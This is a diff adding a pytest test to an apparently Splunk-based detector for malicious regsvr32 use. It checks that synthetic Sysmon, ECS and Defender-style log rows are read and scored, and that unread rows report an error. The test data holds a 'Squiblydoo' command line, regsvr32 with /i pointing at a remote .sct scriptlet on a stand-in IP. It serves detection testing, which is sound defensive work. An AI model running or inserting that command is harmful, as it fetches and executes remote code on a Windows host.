@@ -171,3 +171,39 @@ def test_a_broken_local_logging_conf_is_said_and_the_shipped_one_used(app_copy, 
     assert "local/regsvr32detect.logging.conf cannot be used" in warning
     log = (home / "var" / "log" / "splunk" / "regsvr32detect.log").read_text(encoding="utf-8")
     assert "mode=filter" in log
+
+
+# --- reliability: which reader reads a row ----------------------------------------------------
+SQUIBLYDOO = "regsvr32 /s /u /i:http://198.51.100.7/a.sct scrobj.dll"
+REGSVR32_PATH = "C:\\Windows\\System32\\regsvr32.exe"
+ECS_START = {"process.executable": REGSVR32_PATH, "process.command_line": SQUIBLYDOO,
+             "process.parent.executable": "C:\\Windows\\explorer.exe", "host.name": "ws1"}
+
+
+@pytest.mark.parametrize("args", [[], ["mode=filter"]])
+def test_no_selector_value_vetoes_a_reader_and_an_unread_row_says_so(args):
+    # Once: ActionType=N/A (fillnull) vetoed a Sysmon row, and SentinelOne's event.type vetoed
+    # every Elastic Defend process start (event.type=start): both passed with score 0, silently.
+    read = numbered([
+        dict(MALICIOUS, ActionType="N/A"), dict(MALICIOUS, event_simpleName="-"),
+        dict(MALICIOUS, **{"event.type": "null"}),
+        dict(ECS_START, **{"event.category": ["process"], "event.type": ["start", "process_start"]}),
+        dict(ECS_START, **{"event.category": "process", "event.type": "info"}),
+        dict(ECS_START, **{"event.category{}": ["process"], "event.type": "start"}),
+        dict(ECS_START, **{"event.category": ["host", "process"], "event.type": ["start"]}),
+    ])
+    unread = numbered([dict(ECS_START, **{"event.category": "N/A", "event.type": "start"}),
+                       {"ActionType": "null", "FolderPath": REGSVR32_PATH, "ProcessCommandLine": SQUIBLYDOO}],
+                      len(read))
+    benign = numbered([BENIGN], len(read) + len(unread))
+    result = chunked.run(args, [read + unread + benign])
+    assert result.returncode == 0, result.stderr[-2000:]
+    rows = dict((r["seq"], r) for r in result.rows)
+    for row in read:
+        got = rows[row["seq"]]
+        assert "R32-001" in got["regsvr32_rules"] and got["regsvr32_error"] == "", row
+    for row in unread:
+        got = rows[row["seq"]]
+        assert got["regsvr32_score"] == "0", row
+        assert got["regsvr32_error"].startswith("no reader for this row: regsvr32 is in "), got
+    assert (benign[0]["seq"] in rows) == (args == [])
